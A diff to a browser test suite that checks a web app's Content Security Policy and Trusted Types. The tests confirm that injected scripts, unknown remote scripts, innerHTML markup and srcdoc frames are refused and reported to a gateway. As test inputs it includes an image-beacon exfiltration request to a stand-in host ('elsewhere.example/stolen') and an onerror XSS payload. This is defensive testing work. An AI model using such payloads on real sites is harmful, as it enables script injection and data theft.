@@ -1,28 +1,57 @@
 import { expect, it } from 'vitest';
 import { openBrowser, signUp } from '../src/browser-user.ts';
 import { openStudio } from '../src/studio.ts';
+import { signUpAt } from '../src/tool-user.ts';
 
 // The tools' own journeys prove that their uploads, previews, playback and downloads are allowed (see `openBrowser`).
 const studio = openStudio();
 
-it('blocks inline code that the gateway did not write, and the gateway hears of it', async () => {
+it('blocks inline code that the gateway did not write', async () => {
+  const { page, problems } = await openBrowser(studio);
+  await page.goto('/');
+
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.append('globalThis.injected = true');
+    document.head.append(script);
+  });
+
+  expect(await page.evaluate(() => 'injected' in globalThis)).toBe(false);
+  expect(problems.splice(0)).toContainEqual(expect.stringContaining('require-trusted-types-for refused'));
+});
+
+it('tells the gateway of what it refuses', async () => {
   const { page, problems } = await openBrowser(studio);
   await page.goto('/');
   const answer = page.waitForResponse('**/api/policy-reports');
 
   await page.evaluate(() => {
-    const script = document.createElement('script');
-    script.textContent = 'globalThis.injected = true';
-    document.head.append(script);
+    new Image().src = 'https://elsewhere.example/stolen?from=here';
   });
 
-  expect(await page.evaluate(() => 'injected' in globalThis)).toBe(false);
   expect((await answer).status()).toBe(204);
-  // From the page and from the console.
-  expect(problems.splice(0)).toEqual([
-    expect.stringContaining('Content Security Policy'),
-    expect.stringContaining('Content Security Policy'),
-  ]);
+  expect(problems.splice(0)).toContainEqual(expect.stringContaining('img-src refused'));
+});
+
+it.each([
+  [
+    'a script of our own origin that is of no build',
+    `document.createElement('script').src = '/remotes/image/unknown/remoteEntry.js'`,
+  ],
+  ['a script, by its attribute', `document.createElement('script').setAttribute('src', '/api/remotes')`],
+  ['markup', `document.body.innerHTML += '<img src="x" onerror="globalThis.injected = true">'`],
+  ['a page in a frame', `document.createElement('iframe').srcdoc = '<p>Sign in</p>'`],
+  ['another policy', `trustedTypes.createPolicy('mine', {})`],
+])('refuses to make %s of a text', async (_what, code) => {
+  const { page, problems } = await signUpAt(studio, '/');
+  await page.getByRole('heading', { level: 1, name: 'Images' }).waitFor();
+
+  const refused = page.evaluate(code);
+
+  await expect(refused).rejects.toThrow(/TrustedHTML|TrustedScriptURL|disallowed/);
+  expect(await page.evaluate(() => 'injected' in globalThis)).toBe(false);
+  await expect.poll(() => problems.some((problem) => problem.includes('trusted-types'))).toBe(true);
+  problems.splice(0);
 });
 
 it('sends requests to its own origin only', async () => {
